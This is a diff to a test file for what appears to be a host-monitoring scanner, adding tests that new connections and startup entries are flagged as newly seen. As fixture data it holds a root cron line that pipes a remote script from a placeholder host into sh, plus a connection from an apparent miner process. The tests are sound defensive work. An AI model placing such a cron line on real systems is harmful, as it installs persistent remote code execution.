@@ -1,10 +1,13 @@
 import { afterEach, beforeEach, expect, test } from 'vitest';
 import { containerWith, imageWith, published } from '@/lib/rules/testing/container';
 import { listening } from '@/lib/rules/testing/listener';
+import { keyWith } from '@/lib/rules/testing/persistence';
+import { connected } from '@/lib/rules/testing/socket';
 import { listFindings } from '../findings/list-findings';
 import { listFleetImages, listFleetPorts } from '../fleet/list-inventory';
 import { viewHost } from '../hosts/view-host';
 import { type ScanStage, scanStage } from '../testing/scan-stage';
+import { forgetSightings } from './remember-sightings';
 
 const DIGEST = `sha256:${'a'.repeat(64)}`;
 let stage: ScanStage;
@@ -43,6 +46,44 @@ test('pages call nothing new that was there at the first look, findings included
   const all = await pages();
   expect(all.map(({ name }) => name)).toContain('finding bad');
   expect(all.every(({ seen }) => seen !== null && seen.newAt === null)).toBe(true);
+});
+
+test('connections that the host began are new when they come later, and its guests never are', async () => {
+  const door = listening('0.0.0.0:22');
+  const guest = connected('198.51.100.7:50122', { localPort: 22 });
+  await stage.look({ sockets: [door, connected('10.0.0.9:5432')] });
+  const again = connected('10.0.0.9:5432', { localPort: 41_999 });
+  await stage.look({ sockets: [door, guest, again, connected('5.196.26.96:443', { comm: 'kdevtmpfsi' })] });
+  const { tab } = await viewHost(stage.context, stage.user, { hostId: stage.hostId, tab: 'connections' });
+  const rows = tab.tab === 'connections' ? tab.rows : [];
+  expect(rows.map(({ remote, seen }) => [remote, seen && seen.newAt !== null])).toEqual([
+    ['198.51.100.7:50122', null],
+    ['10.0.0.9:5432', false],
+    ['5.196.26.96:443', true],
+  ]);
+  stage.pass(86_400_000);
+  await stage.look({ sockets: [door] });
+  stage.pass(15 * 86_400_000);
+  await forgetSightings(stage.context.db, stage.now());
+  expect(await stage.context.db.sighting.count({ where: { kind: 'connection', key: { not: '' } } })).toBe(0);
+});
+
+test('what starts by itself is new when it comes or changes, not when it moves in its file or its list is read at last', async () => {
+  const cron = { path: '/etc/crontab', schedule: '* * * * *', user: 'root', fileModifiedAt: null, packageOwner: null };
+  const line = (command: string, lineNumber: number) => ({ ...cron, command, lineNumber, line: command });
+  await stage.look({ cronEntries: [line('/usr/bin/backup', 1)] });
+  const key = keyWith();
+  await stage.look({
+    cronEntries: [line('curl http://a.example/mac.sh | sh', 1), line('/usr/bin/backup', 2)],
+    authorizedKeys: [key],
+  });
+  const { tab } = await viewHost(stage.context, stage.user, { hostId: stage.hostId, tab: 'startup' });
+  const rows = tab.tab === 'startup' ? tab.rows : [];
+  expect(rows.map(({ kind, line: number, seen }) => [kind, number, seen?.newAt !== null])).toEqual([
+    ['cron', 1, true],
+    ['cron', 2, false],
+    ['key', key.lineNumber, false],
+  ]);
 });
 
 test('pages call new what came later: image, ports, container and finding', async () => {
